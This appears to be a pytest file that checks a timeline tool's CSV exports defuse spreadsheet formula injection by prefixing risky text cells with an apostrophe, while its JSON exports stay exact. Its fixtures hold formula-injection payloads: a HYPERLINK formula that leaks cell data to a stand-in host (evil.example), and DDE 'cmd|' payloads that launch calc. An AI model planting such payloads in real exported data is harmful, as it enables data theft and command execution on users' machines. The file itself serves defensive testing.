"""CSV formula injection: a text cell of events.csv, evidence.csv or sources.csv never
starts like a spreadsheet formula (= + - @ TAB CR); such a text gets a leading ', as
OWASP recommends and docs/dataset.md says. Numbers and dates are as they were, and the
JSON exports keep the text exactly as written."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from timeline import exports

from conftest import small_project

FORMULA = ("=", "+", "-", "@", "\t", "\r")
TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
SUMMARY = "+cmd|' /C calc'!A0"
PLACE = "@SUM(1+1)*cmd|' /C calc'!A0"
QUOTE = "-2+3 people were killed"
TAB_QUOTE = "\tTabbed line here."
SOURCE_TITLE = "=1+1 Test article"
PUBLISHER = "\tTab News"
SECOND_TITLE = "\r=2+2 returns"
SECOND_SUMMARY = "'=3+3, already quoted once"
SEED = f"Tense day in the region.\n\n{QUOTE}, officials said on Tuesday.\n{TAB_QUOTE}\n"


def q(text: str) -> str:
    """A YAML double-quoted scalar (JSON's escapes are YAML's)."""
    return json.dumps(text, ensure_ascii=False)


def payload_files() -> dict[str, str | bytes]:
    first = (
        f"title: {q(TITLE)}\n"
        'date: "2023-09-19"\n'
        f"summary: {q(SUMMARY)}\n"
        f"places: [{q(PLACE)}]\n"
        "evidence:\n"
        f"  - source: article\n    quote: {q(QUOTE)}\n"
        f"  - source: article\n    quote: {q(TAB_QUOTE)}\n"
    )
    second = (
        f"title: {q(SECOND_TITLE)}\n"
        'date: "2023-09-20/2023-09-25"\n'
        f"summary: {q(SECOND_SUMMARY)}\n"
        f"evidence:\n  - source: article\n    quote: {q(QUOTE)}\n"
    )
    source = (
        f"title: {q(SOURCE_TITLE)}\npublisher: {q(PUBLISHER)}\n"
        'published: "2023-09-19"\nlanguage: en\n'
    )
    return small_project(
        {
            "seeds/article.txt": SEED,
            "seeds/article.yaml": source,
            "data/places.yaml": f"{q(PLACE)}: []\n",
            "data/events/offensive.yaml": first,
            "data/events/second.yaml": second,
        }
    )


def table(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def text_columns(name: str) -> list[str]:
    fields = exports.TABLE_SCHEMAS[name]["fields"]
    return [field["name"] for field in fields if field["type"] == "string"]


def undone(cell: str) -> str:
    """The undoing docs/dataset.md tells of: one leading ' off a text cell that, past the
    ' it starts with, starts with = + - @ TAB or CR."""
    return cell[1:] if cell.startswith("'") and cell.lstrip("'").startswith(FORMULA) else cell


@pytest.fixture
def site(project, run, monkeypatch) -> Path:
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1700000000")
    monkeypatch.setenv("TIMELINE_SEARCH", "off")
    root = project(payload_files())
    out = root.parent / "site"
    status, _, err = run(["build", "--out", str(out)], cwd=root)
    assert status == 0, err
    return out


def test_no_text_cell_of_a_built_table_starts_like_a_formula(site):
    for name in exports.TABLES:
        rows = table(site / f"{name}.csv")
        assert rows, name
        for row in rows:
            for column in text_columns(name):
                assert not row[column].startswith(FORMULA), (name, column, row[column])


def test_each_payload_gets_one_leading_quote(site):
    events = {row["id"]: row for row in table(site / "events.csv")}
    assert events["offensive"]["title"] == "'" + TITLE
    assert events["offensive"]["summary"] == "'" + SUMMARY
    assert events["offensive"]["places"] == "'" + PLACE
    assert events["second"]["title"] == "'" + SECOND_TITLE
    # A text already starting with ' before a formula gets one more: undone exactly.
    assert events["second"]["summary"] == "'" + SECOND_SUMMARY
    evidence = table(site / "evidence.csv")
    assert [row["quote"] for row in evidence] == ["'" + QUOTE, "'" + TAB_QUOTE, "'" + QUOTE]
    (source,) = table(site / "sources.csv")
    assert (source["title"], source["publisher"]) == ("'" + SOURCE_TITLE, "'" + PUBLISHER)
    # Cells that do not start like a formula are as they were.
    assert events["offensive"]["id"] == "offensive"
    assert events["offensive"]["url"] == "https://example.org/t/events/offensive/"


def test_numbers_and_dates_are_untouched_and_the_json_is_exact(site):
    document = json.loads((site / "events.json").read_text(encoding="utf-8"))
    by_id = {event["id"]: event for event in document["events"]}
    assert by_id["offensive"]["title"] == TITLE
    assert by_id["offensive"]["summary"] == SUMMARY
    assert by_id["offensive"]["places"] == [PLACE]
    assert by_id["second"]["title"] == SECOND_TITLE
    assert by_id["second"]["summary"] == SECOND_SUMMARY
    for row in table(site / "events.csv"):
        event = by_id[row["id"]]
        assert (row["start"], row["end"]) == (event["start"], event["end"])
        assert row["duration_days"] == str(event["duration_days"] or "")
        for column in text_columns("events"):  # the documented undoing gives the text back
            assert undone(row[column]) == exports._cell(event[column]), column
    assert by_id["second"]["duration_days"] == 5
    evidence = table(site / "evidence.csv")
    starts = [SEED.index(QUOTE), SEED.index(TAB_QUOTE.strip()), SEED.index(QUOTE)]
    assert [row["start"] for row in evidence] == [str(start) for start in starts]
    assert (table(site / "sources.csv")[0]["published"]) == "2023-09-19"


def test_a_negative_number_stays_a_number_in_a_real_table():
    """No column of the shipped tables can hold a negative number yet (offsets, counts and
    figures are at least 0): the rule itself keeps one, in the evidence table's columns."""
    row = {"event_id": "e", "index": -1, "source_id": "s", "quote": "-5", "start": -5}
    text = exports._csv_rows(exports.EVIDENCE_COLUMNS, [row])
    assert text == "e,-1,s,'-5,-5,,,,,\r\n"


def test_export_csv_is_the_built_table_and_the_inline_package_is_exact(site, run, offline):
    from frictionless import validate

    root = site.parent / "project0"  # the project the site fixture built
    for name in exports.TABLES:
        status, out, _ = run(["export", "--format", "csv", "--table", name], cwd=root)
        assert status == 0
        assert out.encode("utf-8") == (site / f"{name}.csv").read_bytes()
    status, out, _ = run(["export", "--format", "datapackage"], cwd=root)
    descriptor = json.loads(out)
    data = {resource["name"]: resource["data"] for resource in descriptor["resources"]}
    header, *rows = data["events"]
    titles = [row[header.index("title")] for row in rows]
    assert titles == [TITLE, SECOND_TITLE]
    assert data["evidence"][1][data["evidence"][0].index("quote")] == QUOTE
    assert validate(descriptor).valid


def test_the_built_package_with_defused_cells_validates(site, offline, monkeypatch):
    from frictionless import validate

    monkeypatch.chdir(site)
    report = validate("datapackage.json")
    assert report.valid, report.flatten(["type", "note"])


@pytest.fixture
def offline(monkeypatch):
    """No connection to any host but the loopback."""
    import socket

    real = socket.socket.connect

    def connect(sock, address):
        host = address[0] if isinstance(address, tuple) else address
        if host not in ("127.0.0.1", "::1", "localhost"):
            raise OSError(f"network use in a test: {address}")
        return real(sock, address)

    monkeypatch.setattr(socket.socket, "connect", connect)
